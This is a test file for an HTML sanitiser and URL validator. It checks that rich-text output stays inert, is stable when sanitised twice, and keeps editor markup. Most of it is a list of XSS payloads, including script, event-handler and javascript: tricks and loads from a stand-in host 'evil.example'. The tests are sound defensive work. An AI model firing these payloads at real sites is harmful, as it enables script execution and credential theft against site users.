import { createRequire } from 'node:module';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { demoLegalRows } from '../../seed/legal';
import { isSafeUrl, sanitiseHtml } from './sanitise';

// Classic XSS payloads: whatever they turn into must hold nothing that runs.
const PAYLOADS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)" onload=alert(2)>',
  '<svg onload=alert(1)><circle r=1 /></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<a href="javascript:alert(1)">click</a>',
  '<a href="JaVaScRiPt:alert(1)">click</a>',
  '<a href=" &#14; javascript:alert(1)">click</a>',
  '<a href="java&#x09;script:alert(1)">click</a>',
  '<a href="jav&#x0A;ascript&colon;alert(1)">click</a>',
  '<a href="vbscript:msgbox(1)">click</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<style>@import "https://evil.example/x.css";</style><p>text</p>',
  '<style><img src=x onerror=alert(1)></style>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p style="width: expression(alert(1))">x</p>',
  '<p style="background: u\\72l(https://evil.example)">x</p>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x">',
  '<form action="https://evil.example"><input name="password"><button>Go</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<details open ontoggle=alert(1)>x</details>',
  '<body onload=alert(1)>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<template><script>alert(1)</script></template>',
  '<div id="x"><a id="x" name="cookie">clobber</a></div>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<table><td><a href="javascript:alert(1)">x</a></td></table>',
  '<p><a href="https://ok.example" target="_top" onclick="x()">ok</a></p>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<select><template><style><img src=x onerror=alert(1)></style></template></select>',
];

const ALLOWED_TAGS = new Set(
  'a abbr b blockquote br caption code col colgroup dd del div dl dt em figcaption figure h1 h2 h3 h4 h5 h6 hr i img ins kbd li mark ol p pre q s small span strong sub sup table tbody td tfoot th thead tr u ul'.split(
    ' ',
  ),
);

/** What the sanitised HTML turns into in a browser: every element, attribute and URL it holds. */
function assertInert(html: string) {
  const template = document.createElement('template');
  template.innerHTML = html;
  for (const element of template.content.querySelectorAll('*')) {
    expect(ALLOWED_TAGS.has(element.localName), `<${element.localName}> in ${html}`).toBe(true);
    for (const { name, value } of element.attributes) {
      expect(name.startsWith('on'), `${name} in ${html}`).toBe(false);
      if (name === 'href' || name === 'src') expect(isSafeUrl(value), value).toBe(true);
      if (name === 'style') expect(value).not.toMatch(/url|expression|\\/i);
    }
  }
}

// The API tests run in node: a DOM of our own to look at the output with.
const { JSDOM } = createRequire(import.meta.url)('jsdom') as {
  JSDOM: new (html: string) => { window: Window };
};
const { document } = new JSDOM('').window;

describe('sanitiseHtml', () => {
  it.each(PAYLOADS)('leaves nothing that runs of %s, and is stable', (payload) => {
    const clean = sanitiseHtml(payload);
    assertInert(clean);
    expect(clean).not.toMatch(/<script|<iframe|<object|<embed|<form|<style|<svg|<math/i);
    expect(sanitiseHtml(clean)).toBe(clean);
  });

  it('keeps what the rich-text editor makes', () => {
    const editor = [
      '<h1>Terms</h1><h2 style="text-align: center">Accounts</h2>',
      '<p><strong>Bold</strong> <em>italic</em> <u>under</u> <s>struck</s> <code>code</code></p>',
      '<ul><li><p>one</p></li></ul><ol start="3"><li><p>three</p></li></ol>',
      '<blockquote><p>quoted</p></blockquote><pre><code>block</code></pre><hr>',
      '<p><span style="color: #958DF1">colour</span> <mark data-color="#ff0" style="background-color: #ff0; color: inherit">marked</mark></p>',
      '<p><a href="https://example.com/terms" target="_blank" rel="noopener noreferrer nofollow">link</a> <a href="mailto:legal@example.com">mail</a> <a href="/privacy">relative</a></p>',
      '<img src="https://example.com/logo.png" alt="Logo"><p>line<br>break</p>',
    ].join('');
    expect(sanitiseHtml(editor)).toBe(editor);
  });

  it('makes links that open a new tab unable to reach back', () => {
    expect(sanitiseHtml('<a href="https://x.example" target="_blank">x</a>')).toBe(
      '<a href="https://x.example" target="_blank" rel="noopener noreferrer">x</a>',
    );
    expect(sanitiseHtml('<a href="/x" target="_parent" rel="help">x</a>')).toBe(
      '<a href="/x" rel="help">x</a>',
    );
  });

  it('leaves the demo documents as they are written', () => {
    for (const type of ['terms', 'privacy'] as const) {
      for (const row of demoLegalRows(type, Date.now())) {
        expect(sanitiseHtml(row.content_html ?? '')).toBe(row.content_html);
      }
    }
  });

  it('sanitising twice equals sanitising once, for any mix of markup', () => {
    const piece = fc.oneof(
      fc.constantFrom(
        ...PAYLOADS,
        '<p>',
        '</p>',
        '<table>',
        '<td>',
        '<a href="/x">',
        '</a>',
        '<li>',
        '<ul>',
        '<b>',
        '</i>',
        '<img src=x',
        '"',
        "'",
        '>',
        '&amp;',
        '&',
        '<!--',
        '-->',
        '<noscript>',
        '<math>',
        '<svg>',
        '<style>',
        '</style>',
        '<select>',
      ),
      fc.string({ maxLength: 8 }),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 12 }), (pieces) => {
        const clean = sanitiseHtml(pieces.join(''));
        expect(sanitiseHtml(clean)).toBe(clean);
        assertInert(clean);
      }),
      { numRuns: 300 },
    );
  });
});

describe('isSafeUrl', () => {
  it.each([
    ['https://example.com', true],
    ['HTTP://example.com', true],
    ['mailto:legal@example.com', true],
    ['tel:+15551234', true],
    ['/privacy#data', true],
    ['#section-2', true],
    ['terms.html', true],
    ['//cdn.example.com/x.png', true],
    ['javascript:alert(1)', false],
    [' \tjava\nscript:alert(1)', false],
    ['\u0001javascript:alert(1)', false],
    ['data:image/png;base64,AAAA', false],
    ['vbscript:x', false],
    ['file:///etc/passwd', false],
  ])('%s is safe: %s', (url, safe) => {
    expect(isSafeUrl(url)).toBe(safe);
  });
});
